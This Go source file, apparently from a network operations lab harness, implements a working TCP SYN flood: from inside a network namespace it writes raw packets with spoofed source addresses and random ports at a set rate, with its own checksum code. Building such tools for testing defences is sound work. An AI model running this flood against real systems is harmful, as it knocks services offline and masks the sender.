package opslab

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// SYNFlood sends count TCP SYNs to dst from the namespace, from the
// addresses srcs (in turn) with random source ports and sequence numbers,
// spread evenly over dur. It writes whole IPv4 packets on a raw socket
// (IPPROTO_RAW), as hping3 --flood does: no socket of the sender's TCP
// stack exists for them, so nothing retransmits and a SYN-ACK that comes
// back only draws the sender kernel's RST. It returns how many were sent.
func SYNFlood(ns NS, srcs []netip.Addr, dst netip.AddrPort, count int, dur time.Duration) (int, error) {
	if !dst.Addr().Is4() || len(srcs) == 0 {
		return 0, fmt.Errorf("opslab: SYNFlood: IPv4 only, with at least one source")
	}
	var fd int
	err := ns.Do(func() error {
		var err error
		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
		return err
	})
	if err != nil {
		return 0, fmt.Errorf("opslab: raw socket in %s: %w", ns.Name, err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrInet4{Addr: dst.Addr().As4()}
	pkt := make([]byte, 40)
	const tick = time.Millisecond
	ticks := max(int(dur/tick), 1)
	start := time.Now()
	sent := 0
	for i := 0; i < ticks && sent < count; i++ {
		due := count * (i + 1) / ticks
		for ; sent < due; sent++ {
			src := srcs[sent%len(srcs)].As4()
			buildSYN(pkt, src, dst.Addr().As4(), uint16(1024+rand.IntN(64512)), dst.Port(), rand.Uint32())
			if err := unix.Sendto(fd, pkt, 0, to); err != nil {
				if err == unix.ENOBUFS || err == unix.EAGAIN {
					time.Sleep(100 * time.Microsecond)
					sent--
					continue
				}
				return sent, fmt.Errorf("opslab: send SYN %d: %w", sent, err)
			}
		}
		if d := time.Until(start.Add(time.Duration(i+1) * tick)); d > 0 {
			time.Sleep(d)
		}
	}
	return sent, nil
}

// buildSYN writes a 40-byte IPv4+TCP SYN into p. The kernel fills the IP
// checksum (and the id, left 0); the TCP checksum is ours.
func buildSYN(p []byte, src, dst [4]byte, sport, dport uint16, seq uint32) {
	clear(p)
	p[0] = 0x45 // IPv4, 20-byte header
	binary.BigEndian.PutUint16(p[2:], 40)
	binary.BigEndian.PutUint16(p[6:], 0x4000) // DF
	p[8] = 64                                 // TTL
	p[9] = unix.IPPROTO_TCP
	copy(p[12:16], src[:])
	copy(p[16:20], dst[:])
	t := p[20:]
	binary.BigEndian.PutUint16(t[0:], sport)
	binary.BigEndian.PutUint16(t[2:], dport)
	binary.BigEndian.PutUint32(t[4:], seq)
	t[12] = 5 << 4 // data offset: 20 bytes
	t[13] = 0x02   // SYN
	binary.BigEndian.PutUint16(t[14:], 64240)
	binary.BigEndian.PutUint16(t[16:], tcpChecksum(src, dst, t))
}

// tcpChecksum is the RFC 793 checksum over the IPv4 pseudo-header and seg.
func tcpChecksum(src, dst [4]byte, seg []byte) uint16 {
	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add(src[:])
	add(dst[:])
	sum += unix.IPPROTO_TCP + uint32(len(seg))
	add(seg)
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
